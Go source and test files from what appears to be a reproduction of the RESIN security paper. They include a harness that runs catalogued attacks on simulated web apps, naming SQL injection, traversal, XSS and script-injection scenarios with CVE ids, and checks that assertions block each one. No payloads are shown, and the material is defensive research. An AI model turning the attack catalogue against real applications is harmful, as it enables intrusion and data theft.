		for _, mode := range []Mode{Unmodified, NoPolicy, EmptyPolicy} {
			op, mode := op, mode
			t.Run(op.Name+"/"+mode.String(), func(t *testing.T) {
				// Run with a tiny iteration count via testing.B through a
				// manual invocation: reuse the benchmark body with b.N=1
				// by calling through testing.Benchmark would be slow for
				// all 30 combos; instead run the op once.
				res := testingBenchmarkOnce(func(b *testing.B) { op.Bench(b, mode) })
				if res < 0 {
					t.Fatal("benchmark body failed")
				}
			})
		}
	}
}

// testingBenchmarkOnce runs a benchmark body with the smallest possible
// iteration budget and reports -1 on failure.
func testingBenchmarkOnce(fn func(b *testing.B)) int {
	ok := true
	func() {
		defer func() {
			if recover() != nil {
				ok = false
			}
		}()
		b := &testing.B{N: 1}
		fn(b)
		if b.Failed() {
			ok = false
		}
	}()
	if !ok {
		return -1
	}
	return 1
}

func TestModeString(t *testing.T) {
	if Unmodified.String() != "unmodified" || NoPolicy.String() != "resin-no-policy" ||
		EmptyPolicy.String() != "resin-empty-policy" {
		t.Error("mode names wrong")
	}
}

func TestTableHasTenOps(t *testing.T) {
	ops := Ops()
	if len(ops) != 10 {
		t.Fatalf("ops = %d, want 10 (the Table 5 rows)", len(ops))
	}
	wantOrder := []string{
		"Assign variable", "Function call", "String concat", "Integer addition",
		"File open", "File read, 1KB", "File write, 1KB",
		"SQL SELECT", "SQL INSERT", "SQL DELETE",
	}
	for i, w := range wantOrder {
		if ops[i].Name != w {
			t.Errorf("ops[%d] = %q, want %q", i, ops[i].Name, w)
		}
	}
}

func TestRowOverhead(t *testing.T) {
	r := Row{Op: "x", NsPerOp: [3]float64{100, 150, 300}}
	if got := r.Overhead(NoPolicy); got != 50 {
		t.Errorf("overhead = %v", got)
	}
	if got := r.Overhead(EmptyPolicy); got != 200 {
		t.Errorf("overhead = %v", got)
	}
	zero := Row{}
	if zero.Overhead(NoPolicy) != 0 {
		t.Error("zero baseline should report 0")
	}
}

func TestRender(t *testing.T) {
	out := Render([]Row{{Op: "String concat", NsPerOp: [3]float64{10, 20, 40}}})
	if !strings.Contains(out, "String concat") || !strings.Contains(out, "100%") {
		t.Errorf("render = %q", out)
	}
}

func TestEmptyPolicySerializable(t *testing.T) {
	// The empty policy must round-trip: file and SQL benches persist it.
	s := sample(EmptyPolicy, "x")
	if !s.IsTainted() {
		t.Fatal("sample should be tainted in EmptyPolicy mode")
	}
	if sample(NoPolicy, "x").IsTainted() || sample(Unmodified, "x").IsTainted() {
		t.Error("non-policy modes must not taint")
	}
}
