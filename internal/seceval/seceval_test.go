package seceval

import (
	"strings"
	"testing"
)

// TestTable4Reproduces is the headline security result: every counted
// vulnerability is exploitable without its assertion and blocked with it,
// and no legitimate flow breaks.
func TestTable4Reproduces(t *testing.T) {
	rep, err := Run()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rep.Rows {
		for _, sc := range row.Scenarios {
			if sc.Kind == "depth" {
				continue
			}
			if !sc.VulnerableBaseline {
				t.Errorf("%s / %s: vulnerability missing from the baseline", row.Application, sc.Name)
			}
			if !sc.Blocked {
				t.Errorf("%s / %s: assertion did not block (err=%q)", row.Application, sc.Name, sc.BlockErr)
			}
		}
	}
	if len(rep.LegitFailed) != 0 {
		t.Errorf("legitimate flows broken: %v", rep.LegitFailed)
	}
	if !rep.AllOK() {
		t.Error("AllOK should be true")
	}
}

// TestTable4Counts pins the table's shape to the paper's counts.
func TestTable4Counts(t *testing.T) {
	rep, err := Run()
	if err != nil {
		t.Fatal(err)
	}
	want := map[string][3]int{ // key → {known, discovered, prevented}
		"admissions-sql":   {0, 3, 3},
		"moin-read":        {2, 0, 2},
		"moin-write":       {0, 0, 0},
		"filethingie":      {0, 1, 1},
		"hotcrp-password":  {1, 0, 1},
		"hotcrp-paper":     {0, 0, 0},
		"hotcrp-authors":   {0, 0, 0},
		"myphpscripts":     {1, 0, 1},
		"phpnavigator":     {0, 1, 1},
		"phpbb-access":     {1, 3, 4},
		"phpbb-xss":        {4, 0, 4},
		"script-injection": {5, 0, 5},
	}
	for _, row := range rep.Rows {
		w, ok := want[row.Key]
		if !ok {
			t.Errorf("unexpected row %q", row.Key)
			continue
		}
		if row.Known != w[0] || row.Discovered != w[1] || row.Prevented != w[2] {
			t.Errorf("%s: known/discovered/prevented = %d/%d/%d, want %d/%d/%d",
				row.Key, row.Known, row.Discovered, row.Prevented, w[0], w[1], w[2])
		}
	}
	known, discovered, prevented := rep.Totals()
	if known != 14 || discovered != 8 || prevented != 22 {
		t.Errorf("totals = %d/%d/%d, want 14/8/22", known, discovered, prevented)
	}
}

// TestAssertionsAreSmall checks the paper's qualitative claim: every
// assertion is tens of lines, and assertion size does not scale with
// application size.
func TestAssertionsAreSmall(t *testing.T) {
	rep, err := Run()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rep.Rows {
		if row.MeasuredLOC == 0 {
			t.Errorf("%s: assertion LoC not measured (section %q)", row.Key, row.Section)
		}
		if row.MeasuredLOC > 100 {
			t.Errorf("%s: assertion is %d lines — no longer 'tens of lines'", row.Key, row.MeasuredLOC)
		}
	}
	// The largest app (phpBB, 172k lines) must not have the largest
	// assertion — size independence.
	var phpbbLOC, smallestAppLOC int
	for _, row := range rep.Rows {
		if row.Key == "phpbb-xss" {
			phpbbLOC = row.MeasuredLOC
		}
		if row.Key == "myphpscripts" {
			smallestAppLOC = row.MeasuredLOC
		}
	}
	if phpbbLOC > 20*smallestAppLOC {
		t.Errorf("assertion size appears to scale with app size: phpbb=%d myphpscripts=%d",
			phpbbLOC, smallestAppLOC)
	}
}

func TestCountAssertionLOC(t *testing.T) {
	src := `
// prelude
// BEGIN ASSERTION: demo
// a comment inside

code line one
code line two // trailing comment counts as code
// END ASSERTION
code outside
`
	if got := CountAssertionLOC(src, "demo"); got != 2 {
		t.Errorf("LOC = %d, want 2", got)
	}
	if got := CountAssertionLOC(src, "missing"); got != 0 {
		t.Errorf("missing section LOC = %d, want 0", got)
	}
}

func TestRenderTable(t *testing.T) {
	rep, err := Run()
	if err != nil {
		t.Fatal(err)
	}
	out := rep.RenderTable()
	for _, want := range []string{
		"Table 4",
		"HotCRP",
		"phpBB",
		"MoinMoin",
		"Flume comparison",
		"14 + 8 = 22",
		"CVE-2008-6548",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("rendered table missing %q", want)
		}
	}
	if strings.Contains(out, "FAIL") {
		t.Errorf("rendered table contains failures:\n%s", out)
	}
}

func TestCatalogConsistency(t *testing.T) {
	rows, scenarios, legit := Catalog()
	keys := make(map[string]bool)
	for _, r := range rows {
		if keys[r.Key] {
			t.Errorf("duplicate row key %q", r.Key)
		}
		keys[r.Key] = true
	}
	for _, sc := range scenarios {
		if !keys[sc.Row] {
			t.Errorf("scenario %q references unknown row %q", sc.Name, sc.Row)
		}
		switch sc.Kind {
		case "known", "discovered", "depth":
		default:
			t.Errorf("scenario %q has bad kind %q", sc.Name, sc.Kind)
		}
	}
	if len(legit) < 10 {
		t.Errorf("expected at least 10 legitimate-flow checks, got %d", len(legit))
	}
}
