// Package seceval is the security-evaluation harness behind Table 4 of
// the RESIN paper. For every assertion it runs the catalogued attacks
// twice — once against the unmodified application (the attack must
// succeed, proving the vulnerability exists) and once with the RESIN
// assertion installed (the attack must be blocked by an assertion error)
// — and it measures each assertion's size by counting the code between
// the BEGIN/END markers of the app packages' embedded assertion sources.
package seceval

import (
	"fmt"
	"strings"

	"resin/internal/apps/admissions"
	"resin/internal/apps/filemgr"
	"resin/internal/apps/forum"
	"resin/internal/apps/hotcrp"
	"resin/internal/apps/loginlib"
	"resin/internal/apps/uploadapps"
	"resin/internal/apps/wiki"
)

// AttackFunc mounts an attack against a fresh application instance and
// reports whether it succeeded and, if it was stopped, the blocking error.
type AttackFunc func(withAssertions bool) (succeeded bool, blockErr error)

// Scenario is one catalogued vulnerability.
type Scenario struct {
	Row  string // key of the Table 4 row this scenario counts under
	Name string
	// Kind is "known" (previously-known vulnerability), "discovered"
	// (found during the evaluation), or "depth" (defense-in-depth
	// demonstration, not counted in the table).
	Kind   string
	CVE    string
	Attack AttackFunc
}

// RowSpec describes one row of Table 4.
type RowSpec struct {
	Key         string
	Application string
	Language    string
	// AppLOC is the size of the original application, as reported in the
	// paper — the point of the column is that assertion size does not
	// grow with it.
	AppLOC int
	// PaperAssertionLOC is the assertion size the paper reports (PHP or
	// Python lines).
	PaperAssertionLOC int
	// Section is the marker name inside the app package's embedded
	// assertion source.
	Section string
	// Source is the embedded assertion source to measure.
	Source   string
	VulnType string
}

// LegitCheck is a functionality check run with assertions installed: the
// assertion must not break the application.
type LegitCheck struct {
	Name string
	Fn   func(withAssertions bool) (ok bool, err error)
}

// Catalog returns the Table 4 rows, the attack scenarios, and the
// legitimate-flow checks.
func Catalog() ([]RowSpec, []Scenario, []LegitCheck) {
	rows := []RowSpec{
		{Key: "admissions-sql", Application: "MIT EECS grad admissions", Language: "Python",
			AppLOC: 18500, PaperAssertionLOC: 9, Section: "admissions-sql-injection",
			Source: admissions.AssertionSource, VulnType: "SQL injection"},
		{Key: "moin-read", Application: "MoinMoin", Language: "Python",
			AppLOC: 89600, PaperAssertionLOC: 8, Section: "moinmoin-read-acl",
			Source: wiki.AssertionSource, VulnType: "Missing read access control checks"},
		{Key: "moin-write", Application: "MoinMoin", Language: "Python",
			AppLOC: 89600, PaperAssertionLOC: 15, Section: "moinmoin-write-acl",
			Source: wiki.AssertionSource, VulnType: "Missing write access control checks"},
		{Key: "filethingie", Application: "File Thingie file manager", Language: "PHP",
			AppLOC: 3200, PaperAssertionLOC: 19, Section: "filemgr-write-access",
			Source: filemgr.AssertionSource, VulnType: "Directory traversal, file access control"},
		{Key: "hotcrp-password", Application: "HotCRP", Language: "PHP",
			AppLOC: 29000, PaperAssertionLOC: 23, Section: "hotcrp-password-disclosure",
			Source: hotcrp.AssertionSource, VulnType: "Password disclosure"},
		{Key: "hotcrp-paper", Application: "HotCRP", Language: "PHP",
			AppLOC: 29000, PaperAssertionLOC: 30, Section: "hotcrp-paper-access",
			Source: hotcrp.AssertionSource, VulnType: "Missing access checks for papers"},
		{Key: "hotcrp-authors", Application: "HotCRP", Language: "PHP",
			AppLOC: 29000, PaperAssertionLOC: 32, Section: "hotcrp-author-list",
			Source: hotcrp.AssertionSource, VulnType: "Missing access checks for author list"},
		{Key: "myphpscripts", Application: "myPHPscripts login library", Language: "PHP",
			AppLOC: 425, PaperAssertionLOC: 6, Section: "myphpscripts-password-disclosure",
			Source: loginlib.AssertionSource, VulnType: "Password disclosure"},
		{Key: "phpnavigator", Application: "PHP Navigator", Language: "PHP",
			AppLOC: 4100, PaperAssertionLOC: 17, Section: "filemgr-write-access",
			Source: filemgr.AssertionSource, VulnType: "Directory traversal, file access control"},
		{Key: "phpbb-access", Application: "phpBB", Language: "PHP",
			AppLOC: 172000, PaperAssertionLOC: 23, Section: "phpbb-read-access",
			Source: forum.AssertionSource, VulnType: "Missing access control checks"},
		{Key: "phpbb-xss", Application: "phpBB", Language: "PHP",
			AppLOC: 172000, PaperAssertionLOC: 22, Section: "phpbb-xss",
			Source: forum.AssertionSource, VulnType: "Cross-site scripting"},
		{Key: "script-injection", Application: "many [3, 11, 16, 23, 36]", Language: "PHP",
			AppLOC: 0, PaperAssertionLOC: 12, Section: "script-injection",
			Source: uploadapps.AssertionSource, VulnType: "Server-side script injection"},
	}

	scenarios := []Scenario{
		// MIT EECS grad admissions: 3 discovered SQL injections.
		{Row: "admissions-sql", Name: "search quote breakout", Kind: "discovered",
			Attack: wrap(admissions.AttackSearchInjection)},
		{Row: "admissions-sql", Name: "setscore id splice", Kind: "discovered",
			Attack: wrap(admissions.AttackScoreInjection)},
		{Row: "admissions-sql", Name: "comment SET-clause splice", Kind: "discovered",
			Attack: wrap(admissions.AttackCommentInjection)},

		// MoinMoin: 2 known missing read checks.
		{Row: "moin-read", Name: "include directive bypass", Kind: "known", CVE: "CVE-2008-6548",
			Attack: wrap(wiki.AttackIncludeDirective)},
		{Row: "moin-read", Name: "raw export bypass", Kind: "known",
			Attack: wrap(wiki.AttackRawExport)},
		// MoinMoin write assertion: defense in depth only (0 in Table 4).
		{Row: "moin-write", Name: "direct revision write", Kind: "depth",
			Attack: wrap(wiki.UnauthorizedDirectWrite)},

		// File Thingie: 1 discovered traversal.
		{Row: "filethingie", Name: "upload path traversal", Kind: "discovered",
			Attack: wrap(filemgr.AttackFileThingieTraversal)},
		{Row: "filethingie", Name: "cross-home write", Kind: "depth",
			Attack: wrap(filemgr.AttackCrossHomeWrite)},

		// HotCRP: 1 known password disclosure; paper/author assertions are
		// defense in depth.
		{Row: "hotcrp-password", Name: "email preview reminder", Kind: "known",
			Attack: wrap(hotcrp.AttackPasswordPreview)},
		{Row: "hotcrp-paper", Name: "outsider paper fetch", Kind: "depth",
			Attack: wrap(hotcrp.AttackOutsiderPaperAccess)},

		// myPHPscripts: 1 known disclosure.
		{Row: "myphpscripts", Name: "password file fetch", Kind: "known", CVE: "CVE-2008-5855",
			Attack: wrap(loginlib.AttackFetchPasswordFile)},

		// PHP Navigator: 1 discovered traversal.
		{Row: "phpnavigator", Name: "move destination traversal", Kind: "discovered",
			Attack: wrap(filemgr.AttackPHPNavigatorTraversal)},

		// phpBB access control: 1 known + 3 discovered.
		{Row: "phpbb-access", Name: "printer-friendly view", Kind: "known",
			Attack: wrap(forum.AttackPrintView)},
		{Row: "phpbb-access", Name: "reply quotes unreadable message", Kind: "discovered",
			Attack: wrap(forum.AttackReplyQuote)},
		{Row: "phpbb-access", Name: "latest-posts plugin", Kind: "discovered",
			Attack: wrap(forum.AttackPluginLatest)},
		{Row: "phpbb-access", Name: "search plugin", Kind: "discovered",
			Attack: wrap(forum.AttackPluginSearch)},

		// phpBB XSS: 4 known.
		{Row: "phpbb-xss", Name: "signature rendering", Kind: "known",
			Attack: wrap(forum.AttackSignatureXSS)},
		{Row: "phpbb-xss", Name: "whois response (unusual path)", Kind: "known",
			Attack: wrap(forum.AttackWhoisXSS)},
		{Row: "phpbb-xss", Name: "search echo", Kind: "known",
			Attack: wrap(forum.AttackSearchEchoXSS)},
		{Row: "phpbb-xss", Name: "subject rendering", Kind: "known",
			Attack: wrap(forum.AttackSubjectXSS)},

		// Server-side script injection: 5 known CVEs, one assertion.
		{Row: "script-injection", Name: "phpBB attachment mod", Kind: "known", CVE: "CVE-2004-1404",
			Attack: wrap(uploadapps.AttackPhpBBAttachmentMod)},
		{Row: "script-injection", Name: "Kwalbum upload", Kind: "known", CVE: "CVE-2008-5677",
			Attack: wrap(uploadapps.AttackKwalbum)},
		{Row: "script-injection", Name: "AWStats Totals eval", Kind: "known", CVE: "CVE-2008-3922",
			Attack: wrap(uploadapps.AttackAWStatsTotals)},
		{Row: "script-injection", Name: "phpMyAdmin config", Kind: "known", CVE: "CVE-2008-4096",
			Attack: wrap(uploadapps.AttackPhpMyAdmin)},
		{Row: "script-injection", Name: "wPortfolio upload", Kind: "known", CVE: "CVE-2008-5220",
			Attack: wrap(uploadapps.AttackWPortfolio)},
	}

	legit := []LegitCheck{
		{Name: "hotcrp: reminder to owner delivered", Fn: hotcrp.LegitimateReminder},
		{Name: "hotcrp: chair preview allowed", Fn: hotcrp.ChairPreview},
		{Name: "wiki: owner read", Fn: wiki.LegitimateRead},
		{Name: "wiki: owner write", Fn: wiki.LegitimateWrite},
		{Name: "forum: public topic view", Fn: forum.LegitimateTopicView},
		{Name: "forum: staff forum for staff", Fn: forum.LegitimateStaffView},
		{Name: "filemgr: in-home upload", Fn: func(on bool) (bool, error) {
			return filemgr.LegitimateUpload(filemgr.FileThingie, on)
		}},
		{Name: "filemgr: in-home move", Fn: filemgr.LegitimateMove},
		{Name: "admissions: committee search", Fn: admissions.LegitimateSearch},
		{Name: "loginlib: register and login", Fn: loginlib.LegitimateLogin},
		{Name: "uploadapps: approved code runs", Fn: uploadapps.LegitimateRun},
	}

	return rows, scenarios, legit
}

func wrap(fn func(bool) (bool, error)) AttackFunc {
	return func(on bool) (bool, error) { return fn(on) }
}

// ScenarioResult is the outcome of running one scenario both ways.
type ScenarioResult struct {
	Scenario
	// VulnerableBaseline: the attack succeeded without the assertion.
	VulnerableBaseline bool
	// Blocked: with the assertion, the attack failed AND an assertion
	// error was reported.
	Blocked  bool
	BlockErr string
}

// OK reports whether the scenario reproduced the paper's result: the bug
// exists and the assertion prevents it.
func (r ScenarioResult) OK() bool { return r.VulnerableBaseline && r.Blocked }

// RowResult aggregates one Table 4 row.
type RowResult struct {
	RowSpec
	MeasuredLOC int
	Known       int
	Discovered  int
	Prevented   int
	Scenarios   []ScenarioResult
}

// Report is the full Table 4 run.
type Report struct {
	Rows        []RowResult
	LegitOK     []string
	LegitFailed []string
}

// Run executes the full catalog.
func Run() (*Report, error) {
	rows, scenarios, legit := Catalog()
	byKey := make(map[string]*RowResult)
	var out []*RowResult
	for _, r := range rows {
		rr := &RowResult{RowSpec: r, MeasuredLOC: CountAssertionLOC(r.Source, r.Section)}
		byKey[r.Key] = rr
		out = append(out, rr)
	}
	for _, sc := range scenarios {
		rr, ok := byKey[sc.Row]
		if !ok {
			return nil, fmt.Errorf("seceval: scenario %q references unknown row %q", sc.Name, sc.Row)
		}
		res := runScenario(sc)
		rr.Scenarios = append(rr.Scenarios, res)
		if sc.Kind == "depth" {
			continue
		}
		if res.OK() {
			rr.Prevented++
			if sc.Kind == "known" {
				rr.Known++
			} else {
				rr.Discovered++
			}
		}
	}
	rep := &Report{}
	for _, rr := range out {
		rep.Rows = append(rep.Rows, *rr)
	}
	for _, lc := range legit {
		ok, err := lc.Fn(true)
		if err != nil || !ok {
			rep.LegitFailed = append(rep.LegitFailed, fmt.Sprintf("%s (ok=%v err=%v)", lc.Name, ok, err))
			continue
		}
		rep.LegitOK = append(rep.LegitOK, lc.Name)
	}
	return rep, nil
}

func runScenario(sc Scenario) ScenarioResult {
	res := ScenarioResult{Scenario: sc}
	succeeded, _ := sc.Attack(false)
	res.VulnerableBaseline = succeeded
	succeeded, blockErr := sc.Attack(true)
	res.Blocked = !succeeded && blockErr != nil
	if blockErr != nil {
		res.BlockErr = blockErr.Error()
	}
	return res
}

// CountAssertionLOC counts the code lines of the named BEGIN/END section:
// non-blank lines that are not pure comments (mirroring how the paper
// counts assertion code).
func CountAssertionLOC(source, section string) int {
	begin := "// BEGIN ASSERTION: " + section
	end := "// END ASSERTION"
	lines := strings.Split(source, "\n")
	in := false
	n := 0
	for _, ln := range lines {
		t := strings.TrimSpace(ln)
		if t == begin {
			in = true
			continue
		}
		if in && t == end {
			break
		}
		if !in || t == "" || strings.HasPrefix(t, "//") {
			continue
		}
		n++
	}
	return n
}

// Totals sums the counted columns.
func (rep *Report) Totals() (known, discovered, prevented int) {
	for _, r := range rep.Rows {
		known += r.Known
		discovered += r.Discovered
		prevented += r.Prevented
	}
	return
}

// AllOK reports whether every counted scenario reproduced and every
// legitimate flow survived.
func (rep *Report) AllOK() bool {
	for _, r := range rep.Rows {
		for _, sc := range r.Scenarios {
			if sc.Kind != "depth" && !sc.OK() {
				return false
			}
		}
	}
	return len(rep.LegitFailed) == 0
}

// RenderTable renders the Table 4 reproduction as fixed-width text.
func (rep *Report) RenderTable() string {
	var b strings.Builder
	fmt.Fprintf(&b, "Table 4 — RESIN assertions vs. previously-known and newly discovered vulnerabilities\n")
	fmt.Fprintf(&b, "(paper LoC are PHP/Python lines; measured LoC are this reproduction's Go lines)\n\n")
	fmt.Fprintf(&b, "%-28s %-6s %9s %9s %6s %11s %10s  %s\n",
		"Application", "Lang", "App LOC", "Asrt LOC", "(Go)", "Known vuln", "Discovered", "Vulnerability type")
	total := RowResult{}
	for _, r := range rep.Rows {
		appLOC := "-"
		if r.AppLOC > 0 {
			appLOC = fmt.Sprintf("%d", r.AppLOC)
		}
		fmt.Fprintf(&b, "%-28s %-6s %9s %9d %6d %11d %10d  %s\n",
			r.Application, r.Language, appLOC, r.PaperAssertionLOC, r.MeasuredLOC,
			r.Known, r.Discovered, r.VulnType)
		total.Known += r.Known
		total.Discovered += r.Discovered
		total.Prevented += r.Prevented
	}
	fmt.Fprintf(&b, "\nTotals: %d known + %d discovered = %d prevented (paper: 14 + 8 = 22)\n",
		total.Known, total.Discovered, total.Prevented)
	fmt.Fprintf(&b, "\nPer-scenario outcomes:\n")
	for _, r := range rep.Rows {
		for _, sc := range r.Scenarios {
			status := "FAIL"
			if sc.OK() {
				status = "ok"
			}
			if sc.Kind == "depth" {
				status += " (defense-in-depth, uncounted)"
			}
			cve := ""
			if sc.CVE != "" {
				cve = " [" + sc.CVE + "]"
			}
			fmt.Fprintf(&b, "  %-28s %-34s %-10s vulnerable-baseline=%v blocked=%v %s%s\n",
				r.Application, sc.Name, sc.Kind, sc.VulnerableBaseline, sc.Blocked, status, cve)
		}
	}
	fmt.Fprintf(&b, "\nLegitimate flows with assertions installed: %d ok, %d broken\n",
		len(rep.LegitOK), len(rep.LegitFailed))
	for _, f := range rep.LegitFailed {
		fmt.Fprintf(&b, "  BROKEN: %s\n", f)
	}
	fmt.Fprintf(&b, "\nFlume comparison (§6.1): MoinMoin ACL scheme = %d + %d measured Go lines here\n",
		rep.Rows[1].MeasuredLOC, rep.Rows[2].MeasuredLOC)
	fmt.Fprintf(&b, "(paper: 8 + 15 lines under RESIN vs ~2,000 lines restructuring under Flume)\n")
	return b.String()
}
