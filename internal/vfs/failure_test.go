package vfs

import (
	"strings"
	"testing"

	"resin/internal/core"
)

// Failure injection: persistent state that has been corrupted (or written
// by a newer/older version) must produce errors, never silently dropped
// policies — a dropped confidentiality policy is a disclosure.

func TestCorruptedPolicyAnnotationFailsRead(t *testing.T) {
	fs := newFS(t)
	p := &filePolicy{Owner: "a"}
	if err := fs.WriteFile("/f", core.NewStringPolicy("secret", p), nil); err != nil {
		t.Fatal(err)
	}
	if err := fs.SetXattr("/f", XattrPolicies, []byte("{{{corrupted")); err != nil {
		t.Fatal(err)
	}
	if _, err := fs.ReadFile("/f", nil); err == nil {
		t.Fatal("corrupted annotation must fail the read, not drop policies")
	}
}

func TestUnknownPolicyClassFailsRead(t *testing.T) {
	fs := newFS(t)
	if err := fs.WriteFile("/f", core.NewString("data"), nil); err != nil {
		t.Fatal(err)
	}
	ann := []byte(`[{"start":0,"end":4,"policies":[{"class":"no.SuchClass","fields":{}}]}]`)
	if err := fs.SetXattr("/f", XattrPolicies, ann); err != nil {
		t.Fatal(err)
	}
	_, err := fs.ReadFile("/f", nil)
	if err == nil || !strings.Contains(err.Error(), "no.SuchClass") {
		t.Fatalf("unknown class must fail loudly: %v", err)
	}
}

func TestCorruptedPersistentFilterFailsAccess(t *testing.T) {
	fs := newFS(t)
	fs.WriteFile("/f", core.NewString("x"), nil)
	if err := fs.SetXattr("/f", XattrFilter, []byte("not json")); err != nil {
		t.Fatal(err)
	}
	if _, err := fs.ReadFile("/f", nil); err == nil {
		t.Fatal("corrupted filter must fail the read")
	}
	if err := fs.WriteFile("/f", core.NewString("y"), nil); err == nil {
		t.Fatal("corrupted filter must fail the write")
	}
}

func TestUnregisteredPolicyCannotBePersisted(t *testing.T) {
	fs := newFS(t)
	err := fs.WriteFile("/f", core.NewStringPolicy("x", &unregisteredVFSPolicy{}), nil)
	if err == nil {
		t.Fatal("writing an unregistered policy must fail, not silently drop it")
	}
	if fs.Exists("/f") {
		// The file may exist but must not contain the data without its
		// annotation; our implementation rejects before storing data.
		data, rerr := fs.ReadFile("/f", nil)
		if rerr == nil && data.Raw() == "x" && !data.IsTainted() {
			t.Fatal("data stored without its policy")
		}
	}
}

type unregisteredVFSPolicy struct{}

func (p *unregisteredVFSPolicy) ExportCheck(ctx *core.Context) error { return nil }

func TestUntrackedRuntimeIgnoresCorruptedState(t *testing.T) {
	// The unmodified-interpreter baseline reads raw bytes; corrupted
	// annotations are invisible to it (it never looks).
	rt := core.NewUntrackedRuntime()
	fs := New(rt)
	fs.WriteFile("/f", core.NewString("data"), nil)
	fs.SetXattr("/f", XattrPolicies, []byte("{{{"))
	got, err := fs.ReadFile("/f", nil)
	if err != nil || got.Raw() != "data" {
		t.Fatalf("untracked read: %q %v", got.Raw(), err)
	}
}
