package vfs

import (
	"errors"
	"fmt"
	"strings"
	"sync"
	"testing"

	"resin/internal/core"
)

func TestFSTxCommitApplies(t *testing.T) {
	fs := newFS(t)
	fs.WriteFile("/config", core.NewString("v1"), nil)

	tx := fs.Begin()
	if err := tx.WriteFile("/config", core.NewString("v2"), nil); err != nil {
		t.Fatal(err)
	}
	// Inside the tx the write is visible; outside it is not.
	got, _ := tx.ReadFile("/config", nil)
	if got.Raw() != "v2" {
		t.Errorf("tx view = %q", got.Raw())
	}
	got, _ = fs.ReadFile("/config", nil)
	if got.Raw() != "v1" {
		t.Errorf("base view during tx = %q", got.Raw())
	}
	if err := tx.Commit(); err != nil {
		t.Fatal(err)
	}
	got, _ = fs.ReadFile("/config", nil)
	if got.Raw() != "v2" {
		t.Errorf("after commit = %q", got.Raw())
	}
}

func TestFSTxRollbackDiscards(t *testing.T) {
	fs := newFS(t)
	fs.WriteFile("/keep", core.NewString("x"), nil)
	tx := fs.Begin()
	tx.Remove("/keep", nil)
	tx.WriteFile("/new", core.NewString("y"), nil)
	if err := tx.Rollback(); err != nil {
		t.Fatal(err)
	}
	if !fs.Exists("/keep") || fs.Exists("/new") {
		t.Error("rollback leaked changes")
	}
	if !tx.Done() {
		t.Error("rolled-back tx should be done")
	}
}

func TestFSTxIntegrityAssertionVetoes(t *testing.T) {
	fs := newFS(t)
	fs.MkdirAll("/etc", nil)
	fs.WriteFile("/etc/passwd", core.NewString("root:x"), nil)
	// The assertion: /etc/passwd must always exist and be non-empty.
	fs.AddIntegrityAssertion("passwd-intact", func(view *FS) error {
		info, err := view.Stat("/etc/passwd")
		if err != nil || info.Size == 0 {
			return errors.New("/etc/passwd missing or empty")
		}
		return nil
	})

	// A transaction that truncates the file is vetoed.
	tx := fs.Begin()
	if err := tx.WriteFile("/etc/passwd", core.NewString(""), nil); err != nil {
		t.Fatal(err)
	}
	err := tx.Commit()
	var ie *IntegrityError
	if !errors.As(err, &ie) || ie.Assertion != "passwd-intact" {
		t.Fatalf("commit err = %v", err)
	}
	got, _ := fs.ReadFile("/etc/passwd", nil)
	if got.Raw() != "root:x" {
		t.Error("vetoed commit mutated the base")
	}

	// A benign transaction commits.
	tx2 := fs.Begin()
	tx2.WriteFile("/etc/motd", core.NewString("hi"), nil)
	if err := tx2.Commit(); err != nil {
		t.Fatal(err)
	}
	if !fs.Exists("/etc/motd") {
		t.Error("benign commit lost")
	}
}

func TestFSTxDoneSemantics(t *testing.T) {
	fs := newFS(t)
	tx := fs.Begin()
	tx.Commit()
	if err := tx.Commit(); !errors.Is(err, ErrTxDone) {
		t.Errorf("double commit: %v", err)
	}
	if err := tx.Rollback(); !errors.Is(err, ErrTxDone) {
		t.Errorf("rollback after commit: %v", err)
	}
}

func TestFSTxPersistentFiltersStillApply(t *testing.T) {
	fs := newFS(t)
	fs.WriteFile("/doc", core.NewString("v1"), userCtx("alice"))
	fs.SetPersistentFilter("/doc", &ownerWriteFilter{Owner: "alice"})
	tx := fs.Begin()
	if err := tx.WriteFile("/doc", core.NewString("evil"), userCtx("mallory")); err == nil {
		t.Fatal("persistent write filters must hold inside transactions")
	}
	if err := tx.WriteFile("/doc", core.NewString("v2"), userCtx("alice")); err != nil {
		t.Fatalf("owner write in tx: %v", err)
	}
	if err := tx.Commit(); err != nil {
		t.Fatal(err)
	}
	got, _ := fs.ReadFile("/doc", nil)
	if got.Raw() != "v2" {
		t.Errorf("after commit = %q", got.Raw())
	}
}

func TestFSTxPolicyAnnotationsSurvive(t *testing.T) {
	fs := newFS(t)
	p := &filePolicy{Owner: "tx"}
	tx := fs.Begin()
	if err := tx.WriteFile("/secret", core.NewStringPolicy("s", p), nil); err != nil {
		t.Fatal(err)
	}
	if err := tx.Commit(); err != nil {
		t.Fatal(err)
	}
	got, err := fs.ReadFile("/secret", nil)
	if err != nil {
		t.Fatal(err)
	}
	if !got.IsTainted() {
		t.Error("policy annotation lost through the transaction")
	}
}

func TestFSTxCloneIsDeep(t *testing.T) {
	fs := newFS(t)
	fs.MkdirAll("/a/b", nil)
	fs.WriteFile("/a/b/f", core.NewString("orig"), nil)
	fs.SetXattr("/a/b/f", "user.k", []byte("v"))
	tx := fs.Begin()
	tx.WriteFile("/a/b/f", core.NewString("changed"), nil)
	tx.SetXattr("/a/b/f", "user.k", []byte("changed"))
	// Base unchanged before commit.
	got, _ := fs.ReadFile("/a/b/f", nil)
	x, _ := fs.GetXattr("/a/b/f", "user.k")
	if got.Raw() != "orig" || string(x) != "v" {
		t.Error("tx mutated the base tree")
	}
}

func TestFSTxConcurrentCommits(t *testing.T) {
	fs := newFS(t)
	fs.WriteFile("/counter", core.NewString("seed"), nil)
	var wg sync.WaitGroup
	for i := 0; i < 8; i++ {
		wg.Add(1)
		go func(n int) {
			defer wg.Done()
			tx := fs.Begin()
			tx.WriteFile("/counter", core.NewString(fmt.Sprintf("tx-%d", n)), nil)
			tx.Commit()
		}(i)
	}
	wg.Wait()
	got, err := fs.ReadFile("/counter", nil)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(got.Raw(), "tx-") {
		t.Errorf("final value %q not from any committed tx", got.Raw())
	}
}
