// Package vfs is the filesystem substrate of the RESIN reproduction: an
// in-memory hierarchical filesystem with extended attributes.
//
// It implements two RESIN mechanisms:
//
//   - Persistent policies (§3.4.1): the default file filter serializes the
//     policy spans of written data into the file's extended attributes and
//     re-attaches them (as fresh policy objects) when the file is read, so
//     assertions survive across the runtime boundary.
//
//   - Persistent filter objects (§3.2.3): a programmer-specified filter
//     object can be stored in the extended attributes of a file or
